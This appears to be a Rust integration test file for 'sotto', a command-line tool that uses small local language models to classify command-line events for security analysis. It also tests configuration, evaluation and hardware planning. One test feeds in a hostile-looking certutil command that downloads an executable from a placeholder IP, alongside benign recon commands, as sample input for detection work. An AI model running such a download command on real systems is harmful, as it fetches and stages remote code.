//! The `sotto` binary end to end: real models for the happy path, and the messages a user sees
//! for bad input.

use std::path::PathBuf;
use std::process::{Child, Command, ExitStatus, Output};
use std::time::{Duration, Instant};

mod bench_run;
mod daemon;
mod follow;
mod layers;

fn sotto(args: &[&str], models: Option<&std::path::Path>) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_sotto"));
    cmd.args(args).env_remove("RUST_LOG");
    if let Some(dir) = models {
        cmd.env("SOTTO_MODELS", dir);
    }
    cmd.output().expect("sotto runs")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Waits for `what` to hold, looking again every 20 ms, for at most `limit`.
fn wait_until(what: &str, limit: Duration, mut holds: impl FnMut() -> bool) {
    let deadline = Instant::now() + limit;
    while !holds() {
        assert!(Instant::now() < deadline, "timed out after {limit:?} waiting until {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The child's exit status once it has exited, waiting at most `limit`; after that, kills it
/// and answers `None`.
fn exit_within(child: &mut Child, limit: Duration) -> Option<ExitStatus> {
    let deadline = Instant::now() + limit;
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return Some(status);
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn real_models() -> PathBuf {
    let dir = sotto_models::store::models_dir();
    assert!(dir.join("SmolLM2-135M-Instruct.Q4_1.gguf").exists(), "run `sotto models fetch` first");
    dir
}

#[test]
fn generate_answers_with_counters_as_json() {
    let dir = real_models();
    let out = sotto(
        &[
            "generate",
            "--model",
            "smollm2-135m",
            "--prompt",
            "Is `rm -rf /` dangerous?",
            "--max-tokens",
            "12",
            "--json",
        ],
        Some(&dir),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["prompt_tokens"].as_u64().unwrap() > 5);
    assert!(v["generated_tokens"].as_u64().unwrap() > 0);
    assert!(v["prefill_ms"].as_f64().unwrap() > 0.0);
    assert!(v["cpu_ms"].as_f64().unwrap() > 0.0);
    assert_eq!(v["template"], "embedded chat template");
    assert!(!v["text"].as_str().unwrap().is_empty());
}

#[test]
fn models_list_reads_gguf_metadata() {
    let out = sotto(&["models", "list"], Some(&real_models()));
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    let smol = text.lines().find(|l| l.starts_with("smollm2-135m")).expect("smollm2 row");
    assert!(smol.contains("llama") && smol.contains("Q4_1") && smol.contains("8192"), "{smol}");
    let gemma = text.lines().find(|l| l.starts_with("gemma3-270m")).expect("gemma row");
    assert!(gemma.contains("gemma3") && gemma.contains("Q4_K_M"), "{gemma}");
}

#[test]
fn bad_input_gets_a_message_naming_the_problem() {
    let empty = tempfile::tempdir().unwrap();
    let cases: &[(&[&str], &str)] = &[
        (&["generate", "--model", "/nonexistent/m.gguf", "--prompt", "x"], "model file not found: /nonexistent/m.gguf"),
        (&["generate", "--prompt", "x"], "run `sotto models fetch gemma3-270m` first"),
        (&["models", "fetch", "no-such-model"], "unknown model `no-such-model`"),
        (&["generate", "--model", "/dev/null", "--prompt", "x"], "not a GGUF model file"),
        (
            &["generate", "--model", "/dev/null", "--prompt", "x", "--threads", "0"],
            "--threads: model.threads: \"0\" is not a whole number from 1 to 4096",
        ),
    ];
    for (args, expected) in cases {
        let out = sotto(args, Some(empty.path()));
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(expected), "{args:?}: {}", stderr(&out));
    }
}

/// Issue 11, item 8: `--set server.token=...` shows the token to every user in `ps`.
#[test]
fn a_token_given_on_the_command_line_is_warned_about() {
    let config_show = |token_flag: bool| {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_sotto"));
        cmd.args(["config", "show"]).env("XDG_CONFIG_HOME", "/nonexistent").env_remove("SOTTO_CONFIG");
        cmd.env_remove("RUST_LOG").env_remove("SOTTO_SERVER_TOKEN").env_remove("SOTTO_SERVER_TOKEN_FILE");
        if token_flag {
            cmd.args(["--set", "server.token=0123456789abcdef-cli"]);
        } else {
            cmd.env("SOTTO_SERVER_TOKEN", "0123456789abcdef-env");
        }
        cmd.output().expect("sotto runs")
    };
    let flagged = config_show(true);
    assert!(flagged.status.success(), "{}", stderr(&flagged));
    let warning = stderr(&flagged);
    assert!(warning.contains("process list (ps)") && warning.contains("server.token_file"), "{warning}");
    assert!(!warning.contains("0123456789abcdef-cli") && !String::from_utf8_lossy(&flagged.stdout).contains("-cli"));
    let from_env = config_show(false);
    assert!(from_env.status.success() && !stderr(&from_env).contains("(ps)"), "{}", stderr(&from_env));
}

/// `sotto config show` with no file, no `SOTTO_*` variable and no flag: every default.
#[test]
fn config_show_prints_the_defaults() {
    let empty = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sotto"))
        .args(["config", "show"])
        .env_clear()
        .env("HOME", empty.path())
        .env("XDG_CONFIG_HOME", empty.path())
        .env("XDG_STATE_HOME", empty.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let shown = String::from_utf8(out.stdout).unwrap().replace(empty.path().to_str().unwrap(), "[HOME]");
    insta::assert_snapshot!(shown);
}

/// `sotto config show` with a file, variables and flags: each value names where it came
/// from, and the token is not shown.
#[test]
fn config_show_names_where_each_value_came_from() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("sotto.toml");
    std::fs::write(&file, "[model]\nthreads = 3\nkv_type = \"q8_0\"\n[cache]\npersist = false\n").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sotto"))
        .args(["config", "show", "--config"])
        .arg(&file)
        .args(["--set", "budget.cpu_peak=40%", "--set", "model.keep_alive=15m", "--set", "server.max_tokens=512"])
        .env_clear()
        .env("HOME", dir.path())
        .env("XDG_STATE_HOME", dir.path())
        .env("SOTTO_BUDGET_CPU_MEAN", "20%")
        .env("SOTTO_SERVER_DEFAULT_DEADLINE", "1500ms")
        .env("SOTTO_SERVER_TOKEN", "0123456789abcdef-secret")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let shown = String::from_utf8(out.stdout).unwrap();
    assert!(!shown.contains("0123456789abcdef-secret"), "{shown}");
    insta::assert_snapshot!(shown.replace(dir.path().to_str().unwrap(), "[DIR]"));
}

fn analyze(args: &[&str], input: &str, state: &std::path::Path) -> Output {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_sotto"))
        .args(["analyze", "--model", "smollm2-135m", "--mode", "constrained-zero-shot", "--set", "cache.persist=false"])
        .args(args)
        .env("SOTTO_MODELS", real_models())
        .env("XDG_STATE_HOME", state)
        .env("XDG_CONFIG_HOME", state)
        .env_remove("RUST_LOG")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn analyze_writes_a_verdict_per_line_and_names_unreadable_lines() {
    let dir = tempfile::tempdir().unwrap();
    let input = "{\"command_line\": \"certutil -urlcache -f http://203.0.113.5/a.exe a.exe\", \"os\": \"windows\"}\n\
                 {\"process\": {\"pid\": 4}}\n";
    let out = analyze(&[], input, dir.path());
    assert!(!out.status.success(), "an unreadable line makes the exit status non-zero");
    let lines: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 2, "nothing is lost: {lines:?}");
    assert_eq!(lines[0]["line"], 1);
    assert!(lines[0]["verdict"].is_string(), "{}", lines[0]);
    assert_eq!(lines[1]["line"], 2);
    assert!(lines[1]["error"].as_str().unwrap().contains("command_line"), "{}", lines[1]);
    assert!(stderr(&out).contains("line 2:"), "{}", stderr(&out));
}

/// Issue 11, item 2: one bad byte stopped `sotto analyze` before any verdict was written.
#[test]
fn a_line_that_is_not_utf8_is_an_error_record_and_the_rest_is_analysed() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("three.jsonl");
    let mut bytes = b"{\"command_line\": \"whoami\", \"os\": \"windows\"}\n".to_vec();
    bytes.extend_from_slice(b"{\"command_line\": \"caf\xe9\"}\n");
    bytes.extend_from_slice(b"{\"command_line\": \"id -a\", \"os\": \"linux\"}\n");
    std::fs::write(&file, bytes).unwrap();
    // The head design: the verdicts do not depend on what a small model writes.
    let out = Command::new(env!("CARGO_BIN_EXE_sotto"))
        .args(["analyze", "--model", "smollm2-135m", "--mode", "head", "--set", "cache.persist=false"])
        .arg(&file)
        .env("SOTTO_MODELS", real_models())
        .env("XDG_STATE_HOME", dir.path())
        .env("XDG_CONFIG_HOME", dir.path())
        .env_remove("RUST_LOG")
        .output()
        .unwrap();
    assert!(!out.status.success(), "a refused line makes the exit status non-zero");
    let lines: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[0]["verdict"].is_string() && lines[2]["verdict"].is_string(), "{lines:?}");
    assert_eq!(lines[1]["line"], 2);
    assert!(lines[1]["error"].as_str().unwrap().contains("not UTF-8"), "{}", lines[1]);
    assert!(stderr(&out).contains("3 events read: 2 verdicts"), "{}", stderr(&out));
}

#[test]
fn analyze_follow_resumes_after_a_restart_without_repeating() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("events.jsonl");
    std::fs::write(&log, "{\"command_line\": \"whoami\"}\n").unwrap();
    // Run a follower, wait until it has followed the file and written `expected` verdicts, stop
    // it with SIGTERM, and return everything it wrote (a line in progress is finished first).
    let run_until = |expected: usize| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_sotto"))
            .args(["analyze", "--follow", "--model", "smollm2-135m", "--mode", "constrained-zero-shot"])
            .args(["--set", "cache.persist=false"])
            .arg(&log)
            .env("SOTTO_MODELS", real_models())
            .env("XDG_STATE_HOME", dir.path())
            .env("XDG_CONFIG_HOME", dir.path())
            .env_remove("RUST_LOG")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = std::io::BufReader::new(child.stderr.take().unwrap());
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for l in std::io::BufRead::lines(stderr).map_while(Result::ok) {
                if l.contains("following") {
                    let _ = tx.send(());
                }
            }
        });
        rx.recv_timeout(std::time::Duration::from_secs(120)).expect("the follower starts");
        let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
        let mut lines = Vec::new();
        let mut read = |lines: &mut Vec<serde_json::Value>| {
            let mut l = String::new();
            let n = std::io::BufRead::read_line(&mut reader, &mut l).unwrap();
            if n > 0 {
                lines.push(serde_json::from_str::<serde_json::Value>(&l).unwrap());
            }
            n > 0
        };
        while lines.len() < expected {
            assert!(read(&mut lines), "sotto stopped early");
        }
        // SIGTERM: the line in progress (none here) is finished and the offset saved.
        unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
        while read(&mut lines) {}
        let status = child.wait().unwrap();
        assert!(status.success(), "{status:?}");
        lines
    };
    let first = run_until(1);
    assert_eq!(first.len(), 1);
    assert_eq!(first[0]["line"], 1);
    std::fs::OpenOptions::new()
        .append(true)
        .open(&log)
        .and_then(|mut f| std::io::Write::write_all(&mut f, b"{\"command_line\": \"id -a\"}\n"))
        .unwrap();
    // The restarted follower starts after the first line: only the new one is analysed.
    let second = run_until(1);
    assert_eq!(second.len(), 1, "{second:?}");
    assert!(second[0]["verdict"].is_string(), "{}", second[0]);
    let again = run_until(0);
    assert!(again.is_empty());
}

fn corpus() -> std::path::PathBuf {
    std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../eval/corpus/events.jsonl")
}

#[test]
fn eval_scores_the_default_design_and_names_unknown_ones() {
    let dir = tempfile::tempdir().unwrap();
    let out_file = dir.path().join("run.json");
    let out = sotto(
        &[
            "eval",
            "--model",
            "smollm2-135m",
            "--designs",
            "head,fast",
            "--every",
            "100",
            "--set",
            "cache.persist=false",
            // Other tests share the two CPUs; an idle-class eval would only wait for them.
            "--set",
            "budget.sched=normal",
            "--out",
            out_file.to_str().unwrap(),
        ],
        Some(&real_models()),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(table.contains("| head |") && table.contains("| fast |"), "{table}");
    let saved: serde_json::Value = serde_json::from_slice(&std::fs::read(&out_file).unwrap()).unwrap();
    assert!(saved["command"].as_str().unwrap().contains("--designs head,fast"), "{saved}");
    assert_eq!(saved["split"], "test");
    // The corpus's test families, every 100th event; each scored (an unreadable answer counts as wrong).
    let split = sotto_events::load_suite(corpus()).unwrap();
    let test =
        sotto_events::eval::family_split(&split).iter().filter(|s| **s == sotto_events::eval::Side::Test).count();
    let runs = saved["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 2);
    for run in runs {
        assert_eq!(run["report"]["events"], test.div_ceil(100), "{run}");
        assert_eq!(run["outcomes"].as_array().unwrap().len(), test.div_ceil(100));
    }
    let bad = sotto(&["eval", "--designs", "clever"], Some(&real_models()));
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("unknown design `clever`"), "{}", stderr(&bad));
}

#[test]
fn doctor_describes_the_machine_as_json_and_as_text() {
    let out = sotto(&["doctor", "--json", "--bandwidth-secs", "0.2"], None);
    assert!(out.status.success(), "{}", stderr(&out));
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(r["cpu"]["logical_cpus"].as_u64().unwrap() >= 1, "{r}");
    assert!(r["usable_cpus"].as_f64().unwrap() > 0.0, "{r}");
    assert!(r["memory_total"].as_u64().unwrap() > r["memory_available"].as_u64().unwrap() / 2, "{r}");
    let b = &r["bandwidth"];
    assert!(b["copy"].as_f64().unwrap() > 0.0 && b["triad"].as_f64().unwrap() > 0.0, "{r}");
    assert!(r["isa"]["avx2"].is_boolean() && r["facilities"]["landlock"].is_string(), "{r}");
    let text = sotto(&["doctor", "--bandwidth-secs", "0"], None);
    assert!(text.status.success(), "{}", stderr(&text));
    let text = String::from_utf8_lossy(&text.stdout);
    for label in ["CPU", "cores", "ISA", "memory", "bandwidth   not measured", "GPU", "idle class", "Landlock", "power"]
    {
        assert!(text.contains(label), "{label} in:\n{text}");
    }
}

#[test]
fn plan_calibrates_once_and_predicts_every_catalogue_model() {
    let state = tempfile::tempdir().unwrap();
    let plan = |extra: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_sotto"))
            .arg("plan")
            .args(extra)
            .env("SOTTO_MODELS", real_models())
            .env("XDG_STATE_HOME", state.path())
            .env("XDG_CONFIG_HOME", state.path())
            .env("XDG_CACHE_HOME", state.path())
            .env_remove("RUST_LOG")
            .output()
            .unwrap()
    };
    let first = plan(&["--json"]);
    assert!(first.status.success(), "{}", stderr(&first));
    assert!(stderr(&first).contains("calibrating"), "the first plan calibrates: {}", stderr(&first));
    let a: serde_json::Value = serde_json::from_slice(&first.stdout).unwrap();
    let rows = a["rows"].as_array().unwrap();
    let ids: std::collections::BTreeSet<&str> = rows.iter().map(|r| r["id"].as_str().unwrap()).collect();
    for id in ["smollm2-135m", "gemma3-270m", "qwen3-8b", "foundation-sec-8b"] {
        assert!(ids.contains(id), "{id} is predicted: {ids:?}");
    }
    for r in rows {
        let (v50, v95) = (r["verdict_ms"][0].as_f64().unwrap(), r["verdict_ms"][1].as_f64().unwrap());
        assert!(v50 > 0.0 && v95 >= v50 && r["ram_bytes"].as_u64().unwrap() > r["file_bytes"].as_u64().unwrap(), "{r}");
    }
    // The fit is the one measured here: a bandwidth and a prefill rate for each kernel class
    // the shipped models and the variants use (Q4_0, Q8_0, Q4_1, the others), a cost per row,
    // and a decode cost per layer (0 when the machine's noise made it come out negative).
    let fit = &a["calibration"]["fit"];
    let bandwidth = fit["bandwidth"].as_array().unwrap();
    assert_eq!(bandwidth.len(), 4, "{fit}");
    assert!(bandwidth.iter().all(|b| b[1].as_f64().unwrap() > 0.0), "{fit}");
    let rates = fit["prefill_rate"].as_array().unwrap();
    assert_eq!(rates.len(), 4, "{fit}");
    let variants = std::fs::read_dir(state.path().join("sotto/calibration")).unwrap().count();
    assert_eq!(
        variants, 5,
        "the Q4_0 and Q8_0 re-quantizations, the synthetic wide and deep models and the deep one in Q4_K_M are kept"
    );
    assert!(rates.iter().all(|r| r[1].as_f64().unwrap() > 0.0), "{fit}");
    assert!(fit["prefill_per_row"].as_f64().is_some_and(|r| r >= 0.0), "{fit}");
    assert!(fit["decode_per_layer"].as_f64().is_some_and(|r| r >= 0.0), "{fit}");
    let points = a["calibration"]["points"].as_array().unwrap();
    assert_eq!(points.len(), 7, "two shipped models and five variants: {points:?}");
    let layers: Vec<f64> = points.iter().map(|p| p[1]["shape"]["layers"].as_f64().unwrap()).collect();
    assert!(layers.contains(&4.0) && layers.contains(&40.0), "the synthetic models' depths are read: {layers:?}");

    let second = plan(&["--json"]);
    assert!(second.status.success(), "{}", stderr(&second));
    assert!(!stderr(&second).contains("calibrating"), "the second plan uses the cache: {}", stderr(&second));
    let b: serde_json::Value = serde_json::from_slice(&second.stdout).unwrap();
    assert_eq!(a["rows"], b["rows"], "the same calibration gives the same plan");

    let shorter = plan(&["--json", "--event-tokens", "16"]);
    let c: serde_json::Value = serde_json::from_slice(&shorter.stdout).unwrap();
    let verdict = |v: &serde_json::Value| v["rows"][0]["verdict_ms"][1].as_f64().unwrap();
    assert!(verdict(&c) < verdict(&a), "shorter events answer sooner");

    let table = plan(&[]);
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(
        text.contains("| model | quant |") && (text.contains("Recommended:") || text.contains("No model")),
        "{text}"
    );

    let bad = plan(&["--budget", "35%"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("MEAN/PEAK"), "{}", stderr(&bad));
    let bad = plan(&["--budget", "35%/500%"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("--budget"), "{}", stderr(&bad));
}
